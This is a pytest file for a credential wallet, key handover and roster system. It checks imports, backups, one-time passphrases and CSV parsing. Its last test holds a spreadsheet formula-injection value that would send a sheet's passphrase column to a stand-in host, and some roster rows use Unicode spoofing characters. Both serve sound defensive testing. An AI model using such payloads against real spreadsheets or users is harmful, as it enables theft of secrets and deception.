"""The worker's wallet, key handover and named rosters, without a chain: credentials are signed
here with a fresh issuer key (what the wallet checks needs no chain; their status is the chain
tests' business, tests/cli/test_wallet.py, and the last test here, on the test chain)."""

from __future__ import annotations

import csv
import json
import os
import re
import stat
import time
from dataclasses import replace
from pathlib import Path

import pytest

from registry.config import Settings
from registry.errors import InputError, KeyStoreError
from registry.formats import credential as vcfmt
from registry.formats.merkle import StandardMerkleTree
from registry.formats.multibase import b64url_decode, b64url_encode
from registry.keystore import Identity, KeyStore, new_legal_entity, new_natural_person
from registry.ops import handover
from registry.ops.issuance import Issuer
from registry.ops.passport import sign_presentation
from registry.ops.people import SHEET, make_people, write_handovers
from registry.ops.roster import file_names, load_roster, roster_delimiter
from registry.ops.wallet import Wallet
from registry.ops.wallet.backup import export_backup, read_backup, restore
from registry.ops.wallet.status import check_now, names_of, on_import
from registry.ops.wallet.store import Checked, Entry
from tests.conftest import WELDING, Chain, welding_certificate

ISSUER = new_legal_entity("centre")


def credential(holder: str, name: str = "Welding", holder_name: str | None = None, description: str = "") -> str:
    achievement = vcfmt.Achievement(name, description or name, "Assessed.", skills=(WELDING,), holder_name=holder_name)
    draft = vcfmt.CredentialDraft(ISSUER.did, holder, achievement, int(time.time()))
    now = int(time.time())
    return vcfmt.sign_vc(vcfmt.build_vc(draft, now), ISSUER.signing_key, ISSUER.kid)


def write(path: Path, holder_file: vcfmt.HolderFile) -> Path:
    path.write_text(holder_file.dumps())
    return path


@pytest.fixture
def wallet(tmp_path: Path) -> Wallet:
    store = Wallet(tmp_path / "wallet")
    store.create("her passphrase")
    return store


def her_did(store: Wallet) -> str:
    return store.dids()["own"]


def test_a_wallet_keeps_her_credentials_privately_and_once(wallet: Wallet, tmp_path: Path) -> None:
    did = her_did(wallet)
    tokens = [credential(did, f"Skill {n}") for n in range(3)]
    tree = StandardMerkleTree.of([[vcfmt.credential_hash(t)] for t in tokens], ["bytes32"])
    root = bytes.fromhex(tree.root[2:])
    members = [
        vcfmt.HolderFile(t, vcfmt.CohortProof(root, tuple(bytes.fromhex(p[2:]) for p in tree.get_proof(i)), 3))
        for i, t in enumerate(tokens)
    ]
    single = write(tmp_path / "single.json", vcfmt.HolderFile(credential(did, "Single")))
    files = [single, *(write(tmp_path / f"m{n}.json", m) for n, m in enumerate(members[:2]))]
    checked, _ = wallet.check_imports([(str(p), p.read_bytes()) for p in files])
    added = wallet.add(checked)
    assert sorted(e.id for e in wallet.entries()) == sorted(e.id for e in added)
    assert stat.S_IMODE(os.stat(added[0].path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(wallet.directory).st_mode) == 0o700
    # A passport of hers: its credentials come in, each with its cohort proof.
    passport = sign_presentation(wallet.identity_for(did, "her passphrase"), [members[2]])
    (tmp_path / "passport.json").write_text(json.dumps(passport))
    (entry,) = wallet.add(wallet.check_imports([("passport.json", (tmp_path / "passport.json").read_bytes())])[0])
    assert entry.holder_file.cohort is not None and entry.holder_file.cohort.root == root
    assert wallet.find(entry.id[:6]).id == entry.id
    # The same credential again: left as it is, named, whether alone or in a batch (the others come in).
    assert wallet.check_imports([(str(single), single.read_bytes())]) == (
        [],
        [Checked(added[0].id, added[0].holder_file, str(single))],
    )
    fresh = write(tmp_path / "fresh.json", vcfmt.HolderFile(credential(did, "Fresh")))
    both = [(str(fresh), fresh.read_bytes()), (str(single), single.read_bytes()), (str(fresh), fresh.read_bytes())]
    new, held = wallet.check_imports(both)
    assert [c.where for c in new] == [str(fresh)] and [c.where for c in held] == [str(single)]  # fresh taken once
    assert names_of(held) == [(held[0].id, "Single")]
    wallet.add(new)
    assert len(wallet.entries()) == 5


def test_what_is_not_hers_or_is_damaged_is_refused_by_name(wallet: Wallet, tmp_path: Path) -> None:
    stranger = new_natural_person("someone")
    theirs = write(tmp_path / "theirs.json", vcfmt.HolderFile(credential(stranger.did)))
    with pytest.raises(InputError, match=r"theirs.json is not yours: it was issued to did:key:") as refused:
        wallet.check_imports([(str(theirs), theirs.read_bytes())])
    # Both DIDs shortened as every text output shows them (start…end), never cut without a mark.
    message = str(refused.value)
    assert f"issued to {stranger.did[:29]}…{stranger.did[-10:]}," in message
    assert stranger.did not in message and her_did(wallet) not in message
    assert f"{her_did(wallet)[-10:]}; nothing was imported" in message
    token = credential(her_did(wallet))
    header, payload, signature = token.split(".")
    cases = {
        "cut.json": token[: len(token) // 2],
        "tampered.json": f"{header}.{payload[:-4]}AAAA.{signature}",
        "proof.json": json.dumps(
            {
                "format": vcfmt.HOLDER_FILE_FORMAT,
                "credential": token,
                "anchor": {"type": "cohort", "root": "0x" + "11" * 32, "proof": ["0x" + "22" * 32], "size": 2},
            }
        ),
        "empty.json": "",
    }
    for name, content in cases.items():
        with pytest.raises(InputError) as raised:
            wallet.check_imports([(name, content.encode())])
        assert name in str(raised.value) and "\n" not in str(raised.value)
    assert wallet.entries() == []


def test_a_wallet_without_a_key_says_how_to_get_one(tmp_path: Path) -> None:
    empty = Wallet(tmp_path / "none")
    with pytest.raises(KeyStoreError, match="wallet create"):
        empty.check_imports([("x.json", b"{}")])


def test_credentials_of_two_keys_name_both_keys_apart(wallet: Wallet, tmp_path: Path) -> None:
    wallet.create("her passphrase", name="second")
    dids = sorted(wallet.dids().values())
    entries = [Entry(f"{n}", tmp_path / f"{n}.json", vcfmt.HolderFile(credential(d))) for n, d in enumerate(dids)]
    assert wallet.signer_of(entries[:1]) == dids[0]
    with pytest.raises(InputError) as raised:
        wallet.signer_of(entries)
    # Cut at 24 characters, two did:keys read the same ("did:key:z2dmzD81cgPx8Vki..." twice).
    assert ", ".join(f"{d[:29]}…{d[-10:]}" for d in dids) in str(raised.value)


def test_a_lost_key_file_is_named_with_the_way_back(wallet: Wallet) -> None:
    did = her_did(wallet)
    for path in wallet.keys.directory.glob("*.json"):
        path.unlink()  # the key file lost (a phone wiped, a folder deleted)
    with pytest.raises(KeyStoreError) as raised:
        wallet.identity_for(did, "her passphrase")
    message = str(raised.value)
    assert f"holds no key for {did[:29]}…{did[-10:]}" in message and "wallet import-backup FILE" in message
    assert "wallet import-key FILE" in message and "\n" not in message


def test_backup_round_trip_merges_and_a_wrong_passphrase_restores_nothing(wallet: Wallet, tmp_path: Path) -> None:
    did = her_did(wallet)
    source = write(tmp_path / "c.json", vcfmt.HolderFile(credential(did)))
    wallet.add(wallet.check_imports([(str(source), source.read_bytes())])[0])
    backup = tmp_path / "backup.json"
    assert export_backup(wallet, "backup words", backup) == (1, 1)
    assert stat.S_IMODE(os.stat(backup).st_mode) == 0o600
    assert did not in backup.read_text() and "Welding" not in backup.read_text()
    with pytest.raises(InputError, match="already exists"):
        export_backup(wallet, "backup words", backup)
    with pytest.raises(KeyStoreError, match="wrong passphrase for the backup"):
        read_backup(backup, "other words")
    damaged = json.loads(backup.read_text())
    damaged["nonce"] = "not base64!"
    (tmp_path / "damaged.json").write_text(json.dumps(damaged))
    with pytest.raises(InputError, match="is damaged"):
        read_backup(tmp_path / "damaged.json", "backup words")
    elsewhere = Wallet(tmp_path / "new-phone")
    done = restore(elsewhere, read_backup(backup, "backup words"), str(backup))
    assert (done.keys, len(done.credentials), done.skipped) == (["own"], 1, 0)
    assert elsewhere.dids() == wallet.dids()
    assert elsewhere.identity_for(did, "her passphrase").did == did  # still under her wallet passphrase
    with pytest.raises(KeyStoreError, match=r"wrong wallet passphrase for .*REGISTRY_WALLET_PASSPHRASE, or typed"):
        elsewhere.identity_for(did, "not hers")  # says which passphrase, and where it comes from
    again = restore(elsewhere, read_backup(backup, "backup words"), str(backup))
    assert (again.keys, again.credentials, again.skipped) == ([], [], 2)
    # A new laptop where she made a key first, under a new passphrase, then restored: her old key (the one
    # her credentials name) is still under the old one, and the refusal says so rather than "wrong".
    laptop = Wallet(tmp_path / "new-laptop")
    laptop.create("new words")
    assert restore(laptop, read_backup(backup, "backup words"), str(backup)).keys == ["own-2"]
    with pytest.raises(KeyStoreError, match=r"opens the key own in .* but not own-2, the key your credentials name"):
        laptop.identity_for(did, "new words")
    assert laptop.identity_for(did, "her passphrase").did == did


def test_a_passport_larger_than_a_verifier_reads_is_never_written() -> None:
    """Every verifier refuses a presentation over formats/jwt.py's MAX_TOKEN_BYTES (256 KiB): a passport
    of that many credentials is refused when made, saying how many fit, before any status is read."""
    from registry.ops.passport import check_credentials, create_passport

    amina = new_natural_person("amina")
    padding = "x" * 3000  # a credential of about 5 KB (its description), as a long cohort member's
    files = [vcfmt.HolderFile(credential(amina.did, f"Module {n}", description=padding)) for n in range(80)]
    with pytest.raises(InputError, match=r"^80 credentials make a passport too large for a verifier to read \("):
        check_credentials(amina, files)
    with pytest.raises(InputError, match=r"make two passports or more, of fewer credentials each") as refused:
        create_passport(amina, files)
    fit = int(re.search(r"about (\d+) of these fit in one", str(refused.value)).group(1))  # type: ignore[union-attr]
    assert 20 < fit < 80 and len(create_passport(amina, files[:fit])["presentation"]) <= 256 * 1024


def test_handover_needs_her_passphrase_and_confirmation_needs_her_code(tmp_path: Path) -> None:
    home, keys = tmp_path / "centre", tmp_path / "centre" / "keys"
    person = new_natural_person("amina")
    KeyStore(keys).save(person, "centre words")
    made = handover.make_handover(person, "her words", holder_name="Amina Yusuf")
    out = tmp_path / "amina.handover.json"
    out.write_text(json.dumps(made.document))
    handover.record_pending(home, "amina", made, out, keep_copy=False)
    assert "centre words" not in out.read_text() and made.code not in out.read_text()
    data = handover.read_handover(out)
    with pytest.raises(KeyStoreError, match="wrong passphrase for the handover file"):
        handover.open_handover(data, "centre words", str(out))
    identity, code = handover.open_handover(data, "her words", str(out))
    assert identity.did == person.did and code == made.code
    wrong = "AAAAA-AAAAA" if code != "AAAAA-AAAAA" else "BBBBB-BBBBB"
    with pytest.raises(InputError, match="nothing was removed"):
        handover.confirm(home, keys, "amina", wrong)
    assert (keys / "amina.json").exists()
    handover.confirm(home, keys, "amina", code.lower().replace("-", ""))
    assert not (keys / "amina.json").exists() and not handover.pending_path(home, "amina").exists()
    with pytest.raises(InputError, match="this home holds no key amina: nothing to delete"):  # not "run --out"
        handover.confirm(home, keys, "amina", code)
    # Her wallet keeps it under her own passphrase.
    store = Wallet(tmp_path / "wallet")
    store.add_key(identity, "wallet words")
    assert store.identity_for(person.did, "wallet words").did == person.did
    with pytest.raises(KeyStoreError, match="already holds this key"):
        store.add_key(identity, "wallet words")


def test_a_one_time_passphrase_typed_off_the_sheet_any_case_without_dashes_opens_the_file() -> None:
    person = new_natural_person("jose")
    printed = handover.one_time_passphrase()  # "WGX8E-24KSQ-WY6YX-ZNC4A" on the centre's sheet
    made = handover.make_handover(person, printed, holder_name="José", n=1 << 14)
    identity, code = handover.open_handover(made.document, printed.lower().replace("-", " "), "jose.handover.json")
    assert identity.did == person.did and code == made.code


def test_a_damaged_handover_file_is_called_damaged(tmp_path: Path) -> None:
    made = handover.make_handover(new_natural_person("p"), "pw", holder_name=None, n=1 << 14)
    other = new_natural_person("q")
    document = {**made.document, "did": other.did}
    path = tmp_path / "h.json"
    path.write_text(json.dumps(document))
    with pytest.raises(InputError, match="damaged key handover file"):
        handover.read_handover(path)
    path.write_text('{"format": "skills-credential/1"}')  # her credential given for her key: said which it is
    with pytest.raises(InputError, match=r"not a key handover file \(skills-key-handover/1\) but a credential file"):
        handover.read_handover(path)
    path.write_text('{"format": "skills-key-handover/1"}')  # and the other way round
    with pytest.raises(InputError, match=r"not a wallet backup .* but a key handover file: take it into a wallet"):
        read_backup(path, "pw")


NAMES = ["Kwame Mensah", "محمد الأحمد", "Siobhán O'Brien", "Nguyễn Thị Minh Khai"]


def test_a_roster_names_people_in_any_script_and_keys_are_made_for_those_without(tmp_path: Path) -> None:
    own = new_natural_person("own")
    long_name = "Maria " + "de la Concepción " * 10 + "García"
    rows = [["holder", "holder_name", "name"], [own.did, "Amina Yusuf", "Welding"]]
    rows += [["", name, "Welding"] for name in [*NAMES, long_name]]
    rows.append(["", "Kwame Mensah", "Safety"])  # the same person twice: one key
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    entries = load_roster(roster, lambda h: h)
    assert [a.holder_name for _, a in entries][1:3] == NAMES[:2]
    filled, people = make_people(entries)
    assert len(people) == 5 and filled[0][0] == own.did and filled[1][0] == filled[-1][0]
    assert all(KeyStore(tmp_path).path(p.key_name) for p in people)  # names the keystore accepts
    names = file_names(filled)
    assert names[0].startswith("1-amina-yusuf-") and names[2].startswith("3-محمد-الأحمد-")
    assert names[3].startswith("4-siobhán-o-brien-") and names[-1] == f"7-kwame-mensah-{filled[1][0][-8:]}.json"
    told: list[int] = []  # the CLI's progress bar: one step per key encrypted (hundreds take a minute)
    write_handovers(tmp_path / "home", people, tmp_path / "keys-out", progress=told.append)  # timed: scripts/bench
    assert told == [1] * len(people)
    assert (tmp_path / "keys-out" / SHEET).read_bytes().startswith(b"\xef\xbb\xbfholder_name,")  # Excel: UTF-8
    sheet = list(csv.DictReader((tmp_path / "keys-out" / SHEET).open(encoding="utf-8-sig")))
    assert [r["holder_name"] for r in sheet] == [p.holder_name for p in people]
    first = sheet[0]
    data = handover.read_handover(tmp_path / "keys-out" / first["handover_file"])
    identity, code = handover.open_handover(data, first["one_time_passphrase"], "h")
    assert identity.did == first["did"] == filled[1][0]
    # The centre types her name, as the sheet's first column gives it: told the key_name to confirm by.
    with pytest.raises(InputError, match=f"; waiting for {first['holder_name'].lower()}: {first['key_name']} \\(the"):
        handover.confirm(tmp_path / "home", tmp_path / "no-keys", first["holder_name"].lower(), code)
    handover.confirm(tmp_path / "home", tmp_path / "no-keys", first["key_name"], code)
    assert not handover.pending_path(tmp_path / "home", first["key_name"]).exists()
    # A roster a French Excel saved (semicolons): the sheet follows it, so that Excel opens it in columns.
    french = tmp_path / "roster-fr.csv"
    french.write_text("holder;holder_name;name\n;Élodie Martin;Soudure\n", encoding="utf-8-sig")
    assert roster_delimiter(roster) == "," and roster_delimiter(french) == ";"
    _, (elodie,) = make_people(load_roster(french, lambda h: h))
    write_handovers(tmp_path / "home", [elodie], tmp_path / "keys-fr", delimiter=roster_delimiter(french))
    text = (tmp_path / "keys-fr" / SHEET).read_text(encoding="utf-8-sig")
    assert text.startswith("holder_name;did;handover_file;one_time_passphrase;key_name\n"), text
    assert text.splitlines()[1].startswith("Élodie Martin;did:key:"), text


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (",,Welding", "or the holder_name of a person who has none"),
        (',"' + "x" * 201 + '",Welding', "longer than 200"),
        (',"Kwame\x07",Welding', "a control character"),
        # What would show her name otherwise than it is signed (formats/visible.py): refused by line.
        (',"Kwame\u202eetnasA",Welding', "U\\+202E RIGHT-TO-LEFT OVERRIDE"),
        (',"Kw\u200bame",Welding', "U\\+200B ZERO WIDTH SPACE"),
        (',"Kw\u0430me Asante",Welding', "the word 'Kw.me' mixes Latin and Cyrillic letters"),
    ],
)
def test_a_roster_row_without_a_person_is_refused_by_line(tmp_path: Path, row: str, message: str) -> None:
    roster = tmp_path / "r.csv"
    roster.write_text("holder,holder_name,name\n" + row + "\n")
    with pytest.raises(InputError, match=f"r.csv line 2: .*{message}"):
        load_roster(roster, lambda h: h)


def test_issuance_records_fold_into_each_credentials_state_and_a_damaged_line_is_named(tmp_path: Path) -> None:
    from registry.ops.issued import read_records, record_issued, record_status, records_path

    home = tmp_path / "home"
    people = [new_natural_person(f"p{n}") for n in range(3)]
    tokens = [credential(p.did, "Welding", holder_name=name) for p, name in zip(people, NAMES, strict=False)]
    record_issued(home, ISSUER, [(vcfmt.HolderFile(t), f"f{n}.json") for n, t in enumerate(tokens)], 7)
    record_status(home, ISSUER, "suspended", tokens[1:], 6, 8)
    record_status(home, ISSUER, "reinstated", tokens[2:], 7, 9)
    record_status(home, ISSUER, "revoked", tokens[:1], 2, 10)
    records = read_records(home, ISSUER.name)
    assert [(r.holder_name, r.state, r.reason) for r in records] == [
        (NAMES[0], "revoked", 2), (NAMES[1], "suspended", 6), (NAMES[2], "active", 7),
    ]  # fmt: skip
    assert stat.S_IMODE(os.stat(records_path(home, ISSUER.name)).st_mode) == 0o600
    with records_path(home, ISSUER.name).open("a") as handle:
        handle.write('{"event": "revoked"\n')
    with pytest.raises(InputError, match="line 8 is damaged"):
        read_records(home, ISSUER.name)
    with pytest.raises(InputError, match="nothing issued from this home"):
        read_records(home, "another")


def test_a_file_an_editor_saved_with_a_byte_order_mark_is_read_as_the_file(wallet: Wallet, tmp_path: Path) -> None:
    from registry.ops.wallet.store import read_sources

    path = write(tmp_path / "mine.json", vcfmt.HolderFile(credential(her_did(wallet))))
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # as Notepad saves it
    (entry,) = wallet.add(wallet.check_imports(read_sources([path]))[0])
    assert entry.holder_file.credential == json.loads(path.read_bytes()[3:])["credential"]


def test_two_namesakes_without_a_key_for_the_same_credential_are_refused_not_merged(tmp_path: Path) -> None:
    # One name twice for the same course is two people far more often than one person given it
    # twice: merged, they would share one key (and the second would never get hers).
    roster = tmp_path / "r.csv"
    roster.write_text("holder,holder_name,holder_document,name\n,Ali Khan,,Safety\n,Ali Khan,,Safety\n")
    with pytest.raises(InputError, match=r"r.csv line 3: 'Ali Khan' is also on line 2 for the same credential"):
        load_roster(roster, lambda h: h)
    roster.write_text("holder,holder_name,holder_document,name\n,Ali Khan,P-1,Safety\n,Ali Khan,P-2,Safety\n")
    filled, people = make_people(load_roster(roster, lambda h: h))  # told apart: two people, two keys
    assert len(people) == 2 and filled[0][0] != filled[1][0]
    # Her name typed twice in another case or spacing: one person (two keys would split her credentials
    # between two DIDs, never in one passport), and twice on one course, refused as namesakes are.
    roster.write_text("holder,holder_name,name\n,Amina Haddad,Welding\n,amina  haddad,Safety\n")
    filled, people = make_people(load_roster(roster, lambda h: h))
    assert len(people) == 1 and filled[0][0] == filled[1][0]
    roster.write_text("holder,holder_name,name\n,Amina Haddad,Safety\n,AMINA HADDAD,Safety\n")
    with pytest.raises(InputError, match=r"r.csv line 3: 'AMINA HADDAD' is also on line 2 for the same credential"):
        load_roster(roster, lambda h: h)


def test_import_says_a_genuine_credential_under_a_root_she_has_not_listed_is_in_force(
    settings: Settings, chain: Chain, issuer: Issuer, holder: Identity, tmp_path: Path
) -> None:
    """A worker's home without a trust list (the usual case): `wallet import` reads the status on the
    chain her file names and says it is genuine and in force, and under which root, not a bare refusal."""
    held = issuer.issue_single(holder.did, welding_certificate()).holder_file
    # No deployment, no trust list; a read deadline of 2 s, which must end with each call: a library
    # caller (this test) reads on after it. It did not end (started "for the rest of the run" in the
    # caller's context): the second call, 2.5 s later, could not read the chain ("no answer within the
    # 2 s read deadline"), found the altered file not checked, and this test failed.
    worker = Settings(home=tmp_path / "worker", rpc_urls=settings.rpc_urls, read_deadline_s=2)
    (arrival,) = on_import(worker, [Checked("id", held, "welding.json")])
    assert arrival.verdict == "root not trusted" and arrival.root == (chain.root.did, None), arrival
    assert arrival.change is None
    # Altered after signing (imported without a chain, say): listed with its verdict, nothing it claims shown.
    claims = json.loads(b64url_decode(held.credential.split(".")[1]))
    claims["vc"]["credentialSubject"]["achievement"]["name"] = "Master welder"
    head, _, signature = held.credential.split(".")
    altered = replace(held, credential=".".join([head, b64url_encode(json.dumps(claims).encode()), signature]))
    time.sleep(2.5)  # past the first call's deadline
    (listed,) = check_now(worker, [Entry("id", tmp_path / "x.json", altered)])
    assert listed.verdict == "invalid" and listed.certifies["name"] is None and listed.certifies["skills"] == []


def test_a_name_typed_as_a_formula_is_text_on_the_passphrase_sheet() -> None:
    """The sheet of one-time passphrases is opened in a spreadsheet: a roster name that starts like a
    formula (`=HYPERLINK(...)`, `+`, `-`, `@`) must be shown as text, never run."""
    from registry.ops.people import inert

    assert inert('=HYPERLINK("http://x/?"&D3,"click")') == '\'=HYPERLINK("http://x/?"&D3,"click")'
    assert [inert(n) for n in ("+1", "-x", "@SUM(A1)", "\tTab")] == ["'+1", "'-x", "'@SUM(A1)", "'\tTab"]
    assert [inert(n) for n in ("Amina Yusuf", "محمد الأحمد", "O'Brien")] == ["Amina Yusuf", "محمد الأحمد", "O'Brien"]
